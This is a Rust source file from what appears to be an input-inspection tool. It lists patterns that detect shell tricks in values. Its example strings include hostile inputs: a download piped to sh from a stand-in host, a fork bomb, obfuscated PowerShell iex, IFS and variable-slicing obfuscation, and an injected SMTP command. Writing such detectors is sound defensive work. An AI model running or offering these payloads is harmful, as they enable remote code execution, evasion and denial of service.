//! What in a value is the shell's own, wherever it stands: downloads that are run, arithmetic, slices, loops of cmd.exe?

use crate::detect::matcher::Evidence::{
    ShellBatch, ShellCommand, ShellMail, ShellObfuscated, ShellPipe, ShellSubstitution,
};
use crate::detect::verify::bytes::find;
use crate::detect::verify::shell::pattern::ValuePattern;
use crate::detect::verify::shell::trick::{computes, downloads_and_runs, escapes, forks, hides_blank, recalls, slices};
use crate::detect::verify::shell::{mail, windows};
use crate::text::byte_set::ByteSet;

/// Every row that holds is reported.
pub(super) const PATTERNS: &[ValuePattern] = &[
    ValuePattern {
        name: "download piped to an interpreter",
        when: |value| value.marks.has(ByteSet::PIPE) && downloads_and_runs(value.view),
        evidence: ShellPipe,
        example: "curl http://x.example/a.sh | sh",
        counter_example: "curl hair | shiny",
    },
    ValuePattern {
        name: "loop of cmd.exe",
        when: |value| {
            value.marks.has(ByteSet::PERCENT) && windows::has_loop(value.view) && !windows::is_file(value.view)
        },
        evidence: ShellBatch,
        example: "for %i in (*) do echo %i",
        counter_example: "for 50% in (total)",
    },
    ValuePattern {
        name: "condition of cmd.exe",
        when: |value| windows::has_condition(value.view) && !windows::is_file(value.view),
        evidence: ShellBatch,
        example: "if \"%a%\" == \"b\" echo x",
        counter_example: "if a == b then c",
    },
    ValuePattern {
        name: "blanks of the shell inside a word behind a separator",
        when: |value| value.marks.has(ByteSet::DOLLAR) && hides_blank(value.view),
        evidence: ShellObfuscated,
        example: ";i${ifs}d",
        counter_example: "i${ifs}d",
    },
    ValuePattern {
        name: "arithmetic expansion of numbers",
        when: |value| value.marks.has(ByteSet::DOLLAR) && computes(value.view, b"$(("),
        evidence: ShellSubstitution,
        example: "echo $((6*7))",
        counter_example: "echo $((a+b))",
    },
    ValuePattern {
        name: "arithmetic expansion of numbers in brackets",
        when: |value| value.marks.has(ByteSet::DOLLAR) && computes(value.view, b"$["),
        evidence: ShellSubstitution,
        example: "echo $[6*7]",
        counter_example: "echo $[a+b]",
    },
    ValuePattern {
        name: "letters cut out of a variable",
        when: |value| value.marks.has(ByteSet::DOLLAR) && slices(value.view),
        evidence: ShellObfuscated,
        example: "x${path:0:1}usr",
        counter_example: "x${path}usr",
    },
    ValuePattern {
        name: "letters cut out of a variable of cmd.exe",
        when: |value| value.marks.has(ByteSet::PERCENT) && windows::slices(value.view),
        evidence: ShellObfuscated,
        example: "%comspec:~-7,3% x",
        counter_example: "comspec:~-7,3%",
    },
    ValuePattern {
        name: "command of powershell with escapes inside",
        when: |value| value.marks.has(ByteSet::BACK_QUOTE) && escapes(value.view),
        evidence: ShellObfuscated,
        example: "i`e`x x",
        counter_example: "i`e` x",
    },
    ValuePattern {
        name: "word that powershell formats together",
        when: |value| {
            find(value.view, 0, b"}'-f")
                .is_some_and(|at| value.view.get(..at).is_some_and(|text| find(text, 0, b"'{").is_some()))
        },
        evidence: ShellObfuscated,
        example: "&('{1}{0}'-f'x','ie')",
        counter_example: "'{1}{0}' -f x",
    },
    ValuePattern {
        name: "nothing but history or the directory stack",
        when: |value| recalls(value.view),
        evidence: ShellObfuscated,
        example: "!-4!2",
        counter_example: "!important",
    },
    ValuePattern {
        name: "function that runs itself",
        when: |value| value.marks.has(ByteSet::OPEN) && forks(value.view),
        evidence: ShellCommand,
        example: "a(){ a|a& };a",
        counter_example: "a(){ b|c };d",
    },
];

/// Every row that holds is reported.
pub(super) const AS_SENT: &[ValuePattern] = &[ValuePattern {
    name: "command of a mail server",
    when: |value| value.marks.has(ByteSet::LINE) && mail::commands(value.view),
    evidence: ShellMail,
    example: "x\r\nrcpt to:<a@b.example>",
    counter_example: "dear all,\nmail from: home",
}];
